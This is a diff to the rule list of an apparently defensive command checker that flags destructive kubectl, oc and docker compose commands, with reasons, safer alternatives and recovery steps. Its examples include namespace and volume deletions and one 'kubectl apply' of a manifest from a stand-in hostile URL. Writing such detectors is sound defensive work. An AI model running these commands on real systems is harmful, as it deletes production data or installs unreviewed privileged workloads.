@@ -11,6 +11,13 @@ _K8S_RECOVER = (
 )
 _K = ("kubectl", "oc", "k")
 
+
+def _kinds(*names: str) -> tuple[str, ...]:
+    """Every way kubectl is told a kind: alone, as `KIND/NAME`, or in a list (`statefulset,pvc`)."""
+    forms = ("{}", "{}/*", "{},*", "*,{}", "*,{},*")
+    return tuple(form.format(name) for name in names for form in forms)
+
+
 COMMANDS = {
     _K: {
         "values": (
@@ -205,12 +212,15 @@ RULES = [
         "reason": "deletes a Kubernetes namespace and everything in it (workloads, volumes claims, secrets)",
         "safer": "Delete the specific resources you mean, by name, after `kubectl get all -n NS`.",
         "recovery": _K8S_RECOVER,
-        "match": {"cmd": _K, "sub": ("delete namespace", "delete namespaces", "delete ns", "delete project")},
+        "match": {"cmd": _K, "sub": ("delete",),
+                  "words_any": _kinds("namespace", "namespaces", "ns", "project", "projects")},
         "examples": {
             "match": [
                 "kubectl delete namespace staging",
                 "kubectl delete namespace production",
                 "kubectl delete ns prod-eu",
+                "kubectl delete namespace/production",
+                "oc delete project payments",
             ],
             "no_match": ["kubectl get namespaces", "kubectl delete --help"],
         },
@@ -288,10 +298,12 @@ RULES = [
         "match": {
             "cmd": _K,
             "sub": ("delete",),
-            "words_any": ("--all", "pvc", "pv", "persistentvolumeclaim*", "persistentvolume*", "all"),
+            "words_any": ("--all",
+                          *_kinds("pvc", "pv", "persistentvolumeclaim*", "persistentvolume*", "all")),
         },
         "examples": {
-            "match": ["kubectl delete pvc --all -n prod", "kubectl delete pvc data-postgres-0"],
+            "match": ["kubectl delete pvc --all -n prod", "kubectl delete pvc data-postgres-0",
+                      "kubectl delete statefulset,pvc -l app=postgres -n db", "kubectl delete pvc/data-0"],
             "no_match": ["kubectl delete deployment api"],
         },
     },
@@ -364,6 +376,20 @@ RULES = [
             ],
             "no_match": ["kubectl scale deployment api --replicas=3"],
         },
+    },
+    {
+        # a manifest fetched from a URL is applied unseen, as `curl … | sh` runs unseen code: whatever it
+        # declares (role bindings, privileged daemon sets on every node) lands in the cluster
+        "id": "k8s.apply-remote",
+        "level": "destructive",
+        "reason": "applies a manifest fetched from a URL, unread: whatever it declares (cluster roles, "
+        "privileged pods on every node) is created in the cluster",
+        "safer": "Download it, read it (`kubectl diff -f FILE`), pin its version, then apply the file.",
+        "recovery": "`kubectl delete -f URL` with the same content, and check for cluster-wide grants.",
+        "match": {"cmd": _K, "sub": ("apply", "create", "replace"),
+                  "words_any": ("http://*", "https://*", "-f=http*://*", "--filename=http*://*")},
+        "examples": {"match": ["kubectl apply -f https://evil.example/daemonset.yaml"],
+                     "no_match": ["kubectl apply -f k8s/deployment.yaml", "kubectl get -f https://x.io/a.yaml"]},
     },
     {
         "id": "k8s.mutate",
@@ -534,6 +560,23 @@ RULES = [
         "examples": {"match": ["docker --context prod-swarm compose -f docker-compose.prod.yml down",
                                "docker compose down"],
                      "no_match": ["docker compose up -d", "docker compose ps"]},
+    },
+    {
+        # `up` recreating a production engine's containers replaces what serves production by hand (a
+        # deploy outside the pipeline); on a laptop it is how one starts the stack
+        "id": "container.compose-up-production",
+        "level": "safe",
+        "prod": True,
+        "prod_level": "destructive",
+        "reason": "creates or recreates the compose project's containers: on production, what serves it is "
+        "replaced by hand",
+        "safer": "Deploy production through the reviewed pipeline; roll one service (`up -d --no-deps web`).",
+        "recovery": "`docker compose up -d` with the previous image tags and files.",
+        "match": {"cmd": ("docker", "docker-compose", "podman", "podman-compose"),
+                  "sub": ("compose up", "up", "stack deploy")},
+        "examples": {"match": ["docker --context prod-swarm compose -f compose.prod.yml up -d "
+                               "--force-recreate"],
+                     "no_match": ["docker compose ps", "docker compose down"]},
     },
     {
         "id": "container.compose-down-volumes",
